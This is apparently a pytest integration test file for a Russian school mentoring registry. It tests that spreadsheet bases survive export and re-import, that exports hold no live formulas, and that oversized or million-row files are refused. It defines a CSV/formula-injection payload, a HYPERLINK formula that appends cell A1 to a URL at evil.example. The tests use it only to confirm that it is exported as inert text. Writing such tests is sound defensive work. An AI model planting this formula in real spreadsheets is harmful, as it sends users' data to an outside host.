"""A school's base goes out and comes back: the export is a file the import reads as it is (one
column set), into another school, and the second export equals the first; the exports never hold
a live formula; a hostile or huge file is refused early with a Russian message."""

from __future__ import annotations

import asyncio
import io
import re
import shutil
import time
from datetime import date, datetime
from pathlib import Path
from typing import Any

import anyio
import pytest
from openpyxl import load_workbook

from services.registry.columns import COLUMNS, Base
from services.registry.imports import MAX_STORED_PROBLEMS
from tests.conftest import World
from tests.integration.test_import_export import upload, workbook
from tests.unit.test_spreadsheet_rules import NUMBERED_ROW, SHEET_ROW, bomb

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'
TYPED: dict[Base, list[dict[str, Any]]] = {
    Base.MENTEES: [
        {
            "ФИО": "Абрамов Артём Игоревич",
            "Дата рождения": "14.03.2013",
            "Вид": "Обучающийся",
            "Класс": "7Б",
            "Контакты": "+7 912 000-00-01",
            "Согласие на обработку ПДн": "01.09.2025",
            "Законный представитель": "Абрамова Ольга Петровна",
            "Степень родства": "мать",
            "Категории": "с ОВЗ, с низкими образовательными результатами",
            "Запрос": "Подтянуть алгебру",
            "Темы запроса": "математика, робототехника",
        },
        {
            "ФИО": "Белова Дарья Сергеевна",
            "Дата рождения": datetime(1999, 5, 20),
            "Вид": "педагог",
            "Должность": "учитель химии",
            "Начало педагогического стажа": datetime(2025, 9, 1),
            "Контакты": "belova@school.example",
            "Согласие на обработку ПДн": datetime(2025, 9, 2),
            "Категории": "на новом месте работы",
            "Темы запроса": "классное руководство",
        },
        {
            "ФИО": "'" + HOSTILE,  # typed as text, as Excel keeps a cell typed with a quote
            "Дата рождения": "02.02.2012",
            "Вид": "обучающийся",
            "Класс": "8А",
            "Согласие на обработку ПДн": "01.09.2025",
            "Законный представитель": "@Родитель",
            "Степень родства": "отец",
        },
    ],
    Base.MENTORS: [
        {
            "ФИО": "Волков Андрей Николаевич",
            "Дата рождения": "10.10.1975",
            "Вид": "педагог",
            "Должность": "учитель математики",
            "Начало педагогического стажа": "01.09.1998",
            "Контакты": "-",
            "Согласие на обработку ПДн": "01.09.2025",
            "Компетенции": "математика, олимпиады",
            "Интересы": "шахматы",
            "Число наставляемых": 3,
        },
        {
            "ФИО": "Громова Елена Викторовна",
            "Вид": "сотрудник партнёра",
            "Должность": "инженер",
            "Согласие на обработку ПДн": "02.09.2025",
            "Компетенции": "робототехника",
            "Число наставляемых": 2,
        },
    ],
}


async def exported(world: World, school: str, base: Base) -> bytes:
    coordinator = world.coordinator(school)
    await world.api.caught_up(coordinator)
    answer = await world.api.reporting.get(f"/exports/{base}", headers=world.api.auth(coordinator))
    assert answer.status_code == 200, answer.text
    return answer.content


def values_of(content: bytes) -> list[tuple[Any, ...]]:
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    return list(sheet.iter_rows(values_only=True))


@pytest.mark.parametrize("base", list(Base))
async def test_export_import_into_another_school_export_again_gives_the_same_file(
    world: World, base: Base
) -> None:
    # As a coordinator keeps it: a merged title above the header, dates typed as text.
    typed_file = workbook(TYPED[base], base, "База МБОУ «СОШ № 1»")
    typed = await upload(world, typed_file, str(base), "s1")
    first = await exported(world, "s1", base)
    again = await upload(world, first, str(base), "s2")
    second = await exported(world, "s2", base)

    assert typed["status"] == "done", typed["problems"]
    assert again["status"] == "done", again["problems"]
    assert values_of(first) == values_of(second)
    header, *rows = values_of(first)
    assert header == COLUMNS[base]
    assert len(rows) == len(TYPED[base])
    # What was typed is what goes out, dates as real dates, representative and contacts kept.
    by_name = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    if base == Base.MENTEES:
        pupil = by_name["Абрамов Артём Игоревич"]
        assert pupil["Дата рождения"] == datetime(2013, 3, 14)
        assert pupil["Законный представитель"] == "Абрамова Ольга Петровна"
        assert pupil["Степень родства"] == "мать"
        assert pupil["Контакты"] == "'+7 912 000-00-01"  # no formula, shown as typed
        assert pupil["Категории"] == "с ОВЗ, с низкими образовательными результатами"
        assert pupil["Темы запроса"] == "математика, робототехника"
        assert by_name["Белова Дарья Сергеевна"]["Законный представитель"] is None
        assert by_name["'" + HOSTILE]["Законный представитель"] == "'@Родитель"
    else:
        mentor = by_name["Волков Андрей Николаевич"]
        assert mentor["Начало педагогического стажа"] == datetime(1998, 9, 1)
        assert (mentor["Компетенции"], mentor["Число наставляемых"]) == ("математика, олимпиады", 3)
    sheet = load_workbook(io.BytesIO(first)).active
    assert sheet is not None
    assert sheet["B2"].number_format == "DD.MM.YYYY"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert sheet.column_dimensions["A"].width >= len("Абрамов Артём Игоревич")


async def test_a_name_that_is_a_formula_comes_out_as_text(world: World) -> None:
    await world.person("s1", HOSTILE, "mentor")
    await world.person("s1", "+1+1 Плюсов", "mentor")

    first = await exported(world, "s1", Base.MENTORS)

    sheet = load_workbook(io.BytesIO(first)).active
    assert sheet is not None
    names = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [(cell.value, cell.data_type) for cell in names] == [
        ("'+1+1 Плюсов", "s"),
        ("'" + HOSTILE, "s"),
    ]


async def memory_mb(field: str) -> float:
    status = await anyio.Path("/proc/self/status").read_text()
    return int(re.findall(rf"{field}:\s+(\d+)", status)[0]) / 1024


async def test_a_million_row_file_is_refused_within_seconds(world: World, tmp_path: Path) -> None:
    content = bomb(tmp_path / "bomb.xlsx", 1_000_000, NUMBERED_ROW).read_bytes()

    # This process serves registry (and programs and reporting): its peak RSS starts anew here.
    await anyio.Path("/proc/self/clear_refs").write_text("5")
    before_mb = await memory_mb("VmRSS")
    started = time.perf_counter()
    job = await upload(world, content)
    elapsed = time.perf_counter() - started
    peak_mb = await memory_mb("VmHWM")
    print(
        f"\n1,000,000-row XLSX ({len(content) // 1024} KB) refused in {elapsed:.2f} s;"
        f" the services' process: {before_mb:.0f} MB before, peak {peak_mb:.0f} MB"
    )

    assert elapsed < 5
    assert peak_mb - before_mb < 100  # the whole suite's process may weigh more to begin with
    assert job["status"] == "rejected"
    assert job["problem_count"] == 1
    assert "больше 10 000 строк" in job["problems"][0]["message"]


async def test_a_job_keeps_the_first_problems_and_their_count(world: World, tmp_path: Path) -> None:
    content = bomb(tmp_path / "bad.xlsx", 1_000, SHEET_ROW).read_bytes()  # «Вид» is no kind

    job = await upload(world, content)

    assert job["status"] == "rejected"
    assert job["problem_count"] == 1_000
    assert len(job["problems"]) == MAX_STORED_PROBLEMS
    assert job["problems"][0]["row"] == 2


async def test_the_routes_own_size_limit_answers_a_large_upload(world: World) -> None:
    headers = world.api.auth(world.coordinator("s1"))
    path = f"/schools/{world.ids['s1']}/imports"
    answers = [
        await world.api.registry.post(
            path,
            params={"base": "mentees"},
            headers=headers,
            files={"data": ("base.xlsx", b"x" * size, "application/octet-stream")},
        )
        for size in (9 * 1024 * 1024, 12 * 1024 * 1024)
    ]

    for answer in answers:
        assert answer.status_code == 413
        assert answer.json()["code"] == "file_too_large"
        assert answer.json()["message"] == "Файл больше 8 МБ: это не база школы"


CALC_CSV = f"""База наставляемых МБОУ «СОШ № 5» на 2026/2027 учебный год,,,,,,,,,,,,
{",".join(COLUMNS[Base.MENTEES])}
Денисов Егор Ильич,05.04.2012,обучающийся,8В,,,+7 900 111-22-33,01.09.2025,Денисова Анна,мать,\
С ОВЗ,Помощь с физикой,"физика, конструирование"
"""
SOFFICE = shutil.which("soffice") or "soffice"
HAS_CALC = (
    shutil.which("soffice") is not None and Path("/usr/lib/libreoffice/program/scalc").exists()
)


@pytest.mark.skipif(not HAS_CALC, reason="LibreOffice Calc: apt-get install -y libreoffice-calc")
async def test_a_base_saved_by_libreoffice_calc_imports(world: World, tmp_path: Path) -> None:
    source = tmp_path / "база.csv"
    source.write_text(CALC_CSV, encoding="utf-8")
    converting = await asyncio.create_subprocess_exec(
        SOFFICE,
        f"-env:UserInstallation=file://{tmp_path}/profile",  # its own, beside other runs
        "--headless",
        "--infilter=Text - txt - csv (StarCalc):44,34,76,1,,1049",  # UTF-8, ru-RU
        "--convert-to",
        "xlsx",
        "--outdir",
        str(tmp_path),
        str(source),
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
    )
    assert await asyncio.wait_for(converting.wait(), 120) == 0

    job = await upload(world, (tmp_path / "база.xlsx").read_bytes())

    assert job["status"] == "done", job["problems"]
    data = await world.api.graphql(
        world.coordinator("s1"),
        """{ people(role: MENTEE) { edges { node { fullName birthDate contacts
        menteeProfile { categories needs } consents { signedBy relation } } } } }""",
    )
    [found] = data["data"]["people"]["edges"]
    assert found["node"] == {
        "fullName": "Денисов Егор Ильич",
        "birthDate": str(date(2012, 4, 5)),
        "contacts": "+7 900 111-22-33",
        "menteeProfile": {"categories": ["disabilities"], "needs": ["физика", "конструирование"]},
        "consents": [{"signedBy": "Денисова Анна", "relation": "мать"}],
    }
